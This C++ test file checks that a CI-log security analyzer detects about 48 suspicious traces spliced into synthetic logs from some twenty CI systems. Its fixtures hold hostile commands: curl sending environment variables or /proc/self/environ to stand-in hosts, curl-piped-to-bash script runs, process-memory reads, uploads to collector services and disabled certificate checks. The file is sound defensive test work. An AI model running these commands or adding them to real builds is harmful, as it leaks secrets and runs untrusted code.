// Traces of techniques put into the logs of many CI systems: each must be found in each, and nothing in the same log
// without it. The traces are inert: addresses of documentation, no payload.

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <map>
#include <set>
#include <string>
#include <vector>

#include "analyzer/app/bundled.h"
#include "analyzer/app/examine.h"
#include "analyzer/app/rule_directory.h"

namespace assay::app {
namespace {

// What is spliced in: a command that the system shows, and what it printed.
struct Splice {
  std::string kind;
  std::string rule;
  std::string command;
  std::vector<std::string> output;
};

const std::string secret_map = R"({"github_token":{"value":"not-a-secret-000000000000000000000000","isSecret":true}})";

std::string base64(std::string_view text) {
  constexpr std::string_view letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    const std::string_view part = text.substr(i, 3);
    unsigned bits = 0;
    for (std::size_t k = 0; k < 3; ++k)
      bits = bits << 8U | (k < part.size() ? static_cast<unsigned char>(part[k]) : 0U);
    for (std::size_t k = 0; k < 4; ++k) out.push_back(k <= part.size() ? letters[bits >> (18 - 6 * k) & 63U] : '=');
  }
  return out;
}

std::vector<Splice> splices() {
  const std::string environment = "HOME=/root\nPATH=/usr/bin\nTOKEN=not-a-secret-0000000000\nUSER=build\nLANG=C\n";
  const std::string script =
      "#!/bin/sh\nset -e\necho this is an inert script of a test and does nothing at all\nexit 0\n";
  return {
      {"secret map, twice base64", "log/encoded-secrets", "make", {base64(base64(secret_map))}},
      {"secret map, once base64", "log/encoded-secrets", "make", {base64(secret_map)}},
      {"environment, twice base64", "log/encoded-secrets", "make", {base64(base64(environment))}},
      {"text, twice base64",
       "log/layered-encoding",
       "make",
       {base64(base64("this is some text that nobody would encode twice without a reason to hide it"))}},
      {"script in base64", "log/encoded-script", "make", {base64(script)}},
      {"memory of a process", "log/process-memory-read", "sudo cat /proc/1234/mem", {"reading"}},
      {"memory map of a process", "log/process-memory-read", "python3 dump.py", {"open /proc/4321/maps"}},
      {"search of the worker", "log/process-memory-read", "pgrep -f Runner.Worker", {"1234"}},
      {"environment by curl", "log/environment-sent", "curl -sm 0.5 -d \"$(env)\" https://example.com/upload", {}},
      {"environment of the process by curl",
       "log/environment-sent",
       "curl -s --data-binary @/proc/self/environ https://example.com/x",
       {}},
      {"environment through a pipe", "log/environment-sent", "printenv | curl -s -T - https://example.com/x", {}},
      {"masked secret in a form",
       "log/masked-secret-sent",
       "curl -s -X POST -d 'A=***&B=***' https://files.example.com/in",
       {}},
      {"masked secret in an address", "log/masked-secret-sent", "curl -s https://files.example.com/in?t=***", {}},
      {"collecting service", "log/collection-service", "curl -s https://webhook.site/0000", {}},
      {"tunnel service", "log/collection-service", "wget -q https://abc.ngrok.io/a", {}},
      {"request collector", "log/collection-service", "curl -s https://x.oast.fun/a", {}},
      {"paste service", "log/collection-service", "curl -F f=@a https://transfer.sh/", {}},
      {"address without a name", "log/address-literal-contacted", "curl -s http://192.0.2.7/a", {}},
      {"address without a name, by wget", "log/address-literal-contacted", "wget http://198.51.100.7/a", {}},
      {"script from the network into a shell",
       "log/remote-script",
       "curl -fsSL https://example.com/install | bash",
       {}},
      {"script by substitution", "log/remote-script", "bash <(curl -s https://example.com/uploader)", {}},
      {"script into an interpreter", "log/remote-script", "wget -qO- https://example.com/get.py | python3", {}},
      {"runtime during npm",
       "log/runtime-fetched-during-install",
       "npm ci",
       {"downloading https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun.zip"}},
      {"runtime during pip",
       "log/runtime-fetched-during-install",
       "pip install -r requirements.txt",
       {"GET https://github.com/denoland/deno/releases/download/v2/deno.zip"}},
      {"bad npm version",
       "log/known-bad-package-installed",
       "npm install",
       {"npm warn deprecated axios@1.14.1: use another"}},
      {"bad npm version by pnpm",
       "log/known-bad-package-installed",
       "pnpm install",
       {"dependencies:", "+ axios 1.14.1"}},
      {"bad npm version by yarn",
       "log/known-bad-package-installed",
       "yarn install",
       {"➤ YN0085: │ + axios@npm:1.14.1"}},
      {"bad pypi version",
       "log/known-bad-package-installed",
       "pip install litellm",
       {"Successfully installed litellm-1.82.8"}},
      {"bad pypi version by uv",
       "log/known-bad-package-installed",
       "uv sync",
       {"Installed 1 package in 2ms", " + litellm==1.82.8"}},
      {"bad pypi version by poetry",
       "log/known-bad-package-installed",
       "poetry install",
       {"  - Installing litellm (1.82.8)"}},
      {"bad version published",
       "log/known-bad-package-published",
       "twine upload dist/*",
       {"Uploading distributions to https://upload.pypi.org/legacy/", "Uploading ultralytics-8.3.41-py3-none-any.whl"}},
      {"lifecycle script that fetches",
       "log/install-script-fetches",
       "npm install --foreground-scripts",
       {"> demo@1.0.0 postinstall", "> curl -s https://example.com/a -o a"}},
      {"lifecycle script that fetches, by pnpm",
       "log/install-script-fetches",
       "pnpm install",
       {".../node_modules/demo postinstall$ wget https://example.com/a"}},
      {"macro that configure should not run",
       "log/configure-runs-unknown-commands",
       "./configure",
       {"config.status: executing build-to-host commands"}},
      {"two indexes",
       "log/several-package-indexes",
       "pip install demo",
       {"Looking in indexes: https://pypi.org/simple, https://packages.example.com/simple"}},
      {"known bad host", "log/known-bad-host", "make", {"connecting to https://scan.aquasecurtiy.org/x"}},
      {"marker of a worm", "log/known-marker", "make", {"created repository: Sha1-Hulud: The Second Coming"}},
      {"certificate check off", "log/verification-switched-off", "curl -k -o a.tgz https://example.com/a.tgz", {}},
      {"certificate check off, wget",
       "log/verification-switched-off",
       "wget --no-check-certificate https://example.com/a.tgz",
       {}},
      {"certificate check off, npm", "log/verification-switched-off", "npm config set strict-ssl false", {}},
      {"signature check off, apt",
       "log/verification-switched-off",
       "apt-get install -y --allow-unauthenticated tool",
       {}},
      {"any index trusted",
       "log/verification-switched-off",
       "pip install --trusted-host packages.example.com demo",
       {}},
      {"checksum ignored",
       "log/check-failed-and-ignored",
       "./fetch.sh && npm publish",
       {"sha256sum: WARNING: 1 computed checksum did NOT match",
        "npm notice Publishing to https://registry.npmjs.org/ with tag latest", "+ demo@2.0.0"}},
      {"signature ignored",
       "log/check-failed-and-ignored",
       "./fetch.sh; cargo publish",
       {"gpg: BAD signature from \"Demo <demo@example.com>\"", "   Published demo v1.0.0 at registry `crates-io`"}},
      {"failed tests ignored",
       "log/published-after-failed-tests",
       "npm test || true",
       {"Tests:       1 failed, 4 passed, 5 total",
        "npm notice Publishing to https://registry.npmjs.org/ with tag latest", "+ demo@2.0.0"}},
      {"header from a temporary folder",
       "log/compiler-takes-code-from-temporary-folder",
       "make",
       {"gcc -O2 -include /tmp/.x/limits.h -c src/main.c -o src/main.o"}},
      {"compiler plugin from shared memory",
       "log/compiler-takes-code-from-temporary-folder",
       "make",
       {"libtool: compile:  g++ -fplugin=/dev/shm/p.so -c src/main.cc"}},
      {"module checksum ignored",
       "log/check-failed-and-ignored",
       "go build; docker push ghcr.io/example/demo:1",
       {"verifying example.com/mod@v1.0.0: checksum mismatch", "The push refers to repository [ghcr.io/example/demo]",
        "1: digest: sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc size: 1"}},
  };
}

std::string joined(const std::vector<std::string>& lines, const std::string& before) {
  std::string out;
  for (const std::string& line : lines) out += before + line + "\n";
  return out;
}

std::string in_json(std::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n')
      out += "\\n";
    else if (c == '\x1b')
      out += "\\u001b";
    else
      out += c;
  }
  return out + '"';
}

// The log of one system around a splice.
using Frame = std::string (*)(const Splice&);

struct Framed {
  std::string suffix;
  Frame frame;
};

const std::map<std::string, Framed>& frames() {
  static const std::map<std::string, Framed> made = {
      {"github",
       {"txt",
        [](const Splice& s) {
          const std::string stamp = "2026-01-10T10:00:00.0000000Z ";
          return stamp + "Current runner version: '2.330.0'\n" + stamp + "Secret source: Actions\n" + stamp +
                 "##[group]Run " + s.command + "\n" + stamp + "\x1b[36;1m" + s.command + "\x1b[0m\n" + stamp +
                 "shell: /usr/bin/bash -e {0}\n" + stamp + "##[endgroup]\n" + joined(s.output, stamp) + stamp +
                 "Cleaning up orphan processes\n";
        }}},
      {"gitlab",
       {"log",
        [](const Splice& s) {
          return "Running with gitlab-runner 17.0.0 "
                 "(0000)\n\x1b[0Ksection_start:1700000000:step_script\r\x1b[0KExecuting\n\x1b[32;1m$ " +
                 s.command + "\x1b[0;m\n" + joined(s.output, "") +
                 "\x1b[0Ksection_end:1700000009:step_script\r\x1b[0K\nJob succeeded\n";
        }}},
      {"gitlab with stamps",
       {"log",
        [](const Splice& s) {
          const std::string stamp = "2026-01-10T10:00:00.000000Z 01O ";
          return stamp + "Running with gitlab-runner 17.0.0 (0000)\n" + stamp +
                 "\x1b[0Ksection_start:1700000000:step_script\r\x1b[0KExecuting\n" + stamp + "\x1b[32;1m$ " +
                 s.command + "\x1b[0;m\n" + joined(s.output, stamp) + stamp + "Job succeeded\n";
        }}},
      {"jenkins",
       {"log",
        [](const Splice& s) {
          return "Started by user \x1b[8mha:////4AAAA\x1b[0mexample\n[Pipeline] Start of Pipeline\n[Pipeline] { "
                 "(Build)\n[Pipeline] sh\n+ " +
                 s.command + "\n" + joined(s.output, "") + "[Pipeline] }\nFinished: SUCCESS\n";
        }}},
      {"jenkins with stamps",
       {"log",
        [](const Splice& s) {
          return "10:00:00  Started by an SCM change\n10:00:00  [Pipeline] sh\n10:00:01  + " + s.command + "\n" +
                 joined(s.output, "10:00:01  ") + "10:00:02  Finished: SUCCESS\n";
        }}},
      {"azure",
       {"log",
        [](const Splice& s) {
          const std::string stamp = "2026-01-10T10:00:00.0000000Z ";
          return stamp + "##[section]Starting: Build\n" + stamp + "Agent name: 'box'\n" + stamp + "##[command]" +
                 s.command + "\n" + joined(s.output, stamp) + stamp + "##[section]Finishing: Build\n";
        }}},
      {"travis",
       {"log",
        [](const Splice& s) {
          return "travis_fold:start:install\r\x1b[0Ktravis_time:start:0a1b\r\x1b[0K$ " + s.command + "\n" +
                 joined(s.output, "") + "travis_fold:end:install\r\x1b[0K\nDone. Your build exited with 0.\n";
        }}},
      {"buildkite",
       {"log",
        [](const Splice& s) {
          const std::string stamp = "\x1b_bk;t=1768039200000\x07";
          return stamp + "~~~ Preparing working directory\n" + stamp + "~~~ Running commands\n" + stamp +
                 "\x1b[90m$\x1b[0m " + s.command + "\n" + joined(s.output, stamp);
        }}},
      {"teamcity",
       {"log",
        [](const Splice& s) {
          return "Build 'Demo / Build' #7\nTeamCity URL https://ci.example.com/viewLog.html\n[10:00:00]W: Step 1/1: "
                 "Command Line\n[10:00:01]i: [Step 1/1] Starting: " +
                 s.command + "\n" + joined(s.output, "[10:00:01] : [Step 1/1] ") +
                 "[10:00:02]i: [Step 1/1] Process exited with code 0\n";
        }}},
      {"circleci",
       {"json",
        [](const Splice& s) {
          return "[{\"message\":" + in_json("$ " + s.command + "\n") +
                 ",\"time\":\"2026-01-10T10:00:00Z\",\"type\":\"out\"},{\"message\":" + in_json(joined(s.output, "")) +
                 ",\"time\":\"2026-01-10T10:00:01Z\",\"type\":\"out\"}]\n";
        }}},
      {"buildkit",
       {"log",
        [](const Splice& s) {
          return "#0 building with \"default\" instance using docker driver\n\n#1 [internal] load build definition "
                 "from Dockerfile\n#1 DONE 0.1s\n\n#5 [build 2/3] RUN " +
                 s.command + "\n" + joined(s.output, "#5 0.312 ") + "#5 DONE 1.2s\n";
        }}},
      {"buildkit rawjson",
       {"json",
        [](const Splice& s) {
          return "{\"vertexes\":[{\"digest\":\"sha256:aa\",\"name\":" + in_json("[build 2/3] RUN " + s.command) +
                 ",\"started\":\"2026-01-10T10:00:00Z\"}]}\n" +
                 "{\"logs\":[{\"vertex\":\"sha256:aa\",\"stream\":1,\"data\":\"" + base64(joined(s.output, "")) +
                 "\",\"timestamp\":\"2026-01-10T10:00:01Z\"}]}\n";
        }}},
      {"drone",
       {"json",
        [](const Splice& s) {
          return "[{\"pos\":0,\"out\":" + in_json("+ " + s.command + "\n") +
                 ",\"time\":0},{\"pos\":1,\"out\":" + in_json(joined(s.output, "")) + ",\"time\":1}]\n";
        }}},
      {"drone exec",
       {"log",
        [](const Splice& s) {
          std::string out = "[build:0] + " + s.command + "\n";
          for (std::size_t i = 0; i < s.output.size(); ++i) out += fmt::format("[build:{}] {}\n", i + 1, s.output[i]);
          return out + fmt::format("[build:{}] done\n", s.output.size() + 1);
        }}},
      {"bazel events",
       {"json",
        [](const Splice& s) {
          return R"({"id":{"started":{}},"started":{"uuid":"0a1b","command":"build"}})"
                 "\n"
                 R"({"id":{"actionCompleted":{"label":"//demo:demo"}},"action":{"type":"Genrule","commandLine":[)" +
                 in_json(s.command) +
                 "]}}\n"
                 R"({"id":{"progress":{}},"progress":{"stderr":)" +
                 in_json(joined(s.output, "")) +
                 "}}\n"
                 R"({"id":{"buildFinished":{}},"finished":{"exitCode":{"name":)"
                 R"("SUCCESS"}}})"
                 "\n";
        }}},
      {"msbuild",
       {"log",
        [](const Splice& s) {
          return "Build started 1/10/2026 10:00:00 AM.\nProject \"C:\\demo\\demo.csproj\" on node 1 (default "
                 "targets).\nPreBuildEvent:\n  " +
                 s.command + "\n" + joined(s.output, "  ") + "Done Building Project \"C:\\demo\\demo.csproj\".\n";
        }}},
      {"witness",
       {"json",
        [](const Splice& s) {
          return R"({"_type":"https://in-toto.io/Statement/v0.1","subject":[],"predicateType":)"
                 R"("https://witness.testifysec.com/attestation-collection/v0.1","predicate":{"name":"build",)"
                 R"("attestations":[{"type":"https://witness.dev/attestations/command-run/v0.1","attestation":{"cmd":[)" +
                 in_json(s.command) + R"(],"stdout":)" + in_json(joined(s.output, "")) +
                 R"(,"exitcode":0}}]}})"
                 "\n";
        }}},
      {"sbuild",
       {"build",
        [](const Splice& s) {
          return "sbuild (Debian sbuild) 0.85.0 (04 January 2023) on "
                 "box\n\n+------------------------------------------------------------------------------+\n| Build     "
                 "                                           "
                 "                        "
                 "|\n+------------------------------------------------------------------------------+\n\n+ " +
                 s.command + "\n" + joined(s.output, "") + "Build finished at 2026-01-10T10:00:00Z\n";
        }}},
      {"plain with stamps",
       {"log",
        [](const Splice& s) {
          const std::string stamp = "[2026-01-10T10:00:00Z] ";
          return joined({"checking for gcc... gcc", "checking whether cc works... yes", "make[1]: Entering directory",
                         "gcc -c a.c"},
                        stamp) +
                 stamp + "+ " + s.command + "\n" + joined(s.output, stamp);
        }}},
  };
  return made;
}

struct Scan {
  std::map<std::string, std::set<std::string>> rules_of;  // by file
  std::map<std::string, std::string> strong;              // by file: a finding at medium or above
};

Scan scan(const std::vector<std::pair<std::string, std::string>>& files) {
  static const engine::Bundle bundle = std::move(load_rules("").value());
  Subject subject;
  subject.name = "splices";
  Source source;
  source.tree = intake::in_memory(files);
  subject.sources.push_back(std::move(source));
  ExamineOptions options;
  options.min_confidence = Confidence::low;
  const Result<Examination> examination = examine(subject, nullptr, bundle, options);
  Scan out;
  EXPECT_TRUE(examination.has_value());
  if (!examination) return out;
  for (const Finding& finding : examination->report.findings) {
    out.rules_of[finding.at.path].insert(finding.rule);
    if (finding.severity >= Severity::medium) out.strong[finding.at.path] = finding.rule + ": " + finding.message;
  }
  return out;
}

TEST(Splices, EveryKindIsFoundInEveryFraming) {
  const std::vector<Splice> kinds = splices();
  ASSERT_GE(kinds.size(), 40U);
  ASSERT_GE(frames().size(), 10U);
  std::size_t found = 0;
  std::size_t all = 0;
  std::string missed;
  for (const auto& [system, frame] : frames()) {
    std::vector<std::pair<std::string, std::string>> files;
    for (std::size_t i = 0; i < kinds.size(); ++i)
      files.emplace_back(fmt::format("{:02}.{}", i, frame.suffix), frame.frame(kinds[i]));
    Scan result = scan(files);
    for (std::size_t i = 0; i < kinds.size(); ++i) {
      ++all;
      if (result.rules_of[files[i].first].contains(kinds[i].rule))
        ++found;
      else
        missed += fmt::format("\n  {}: {} ({})", system, kinds[i].kind, kinds[i].rule);
    }
  }
  EXPECT_EQ(missed, "");
  EXPECT_EQ(found, all);
  RecordProperty("traces", static_cast<int>(all));
}

TEST(Splices, NothingIsFoundWithoutThem) {
  const Splice honest{
      .kind = "honest",
      .rule = "",
      .command = "npm ci && npm test",
      .output = {
          "added 12 packages, and audited 13 packages in 2s", "found 0 vulnerabilities",
          "Test Suites: 4 passed, 4 total",
          "integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
          "see https://docs.example.com/guide for help",
          "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}};
  for (const auto& [system, frame] : frames()) {
    const Scan result = scan({{"a." + frame.suffix, frame.frame(honest)}});
    EXPECT_TRUE(result.strong.empty()) << system << ": " << result.strong.begin()->second;
  }
}

}  // namespace
}  // namespace assay::app
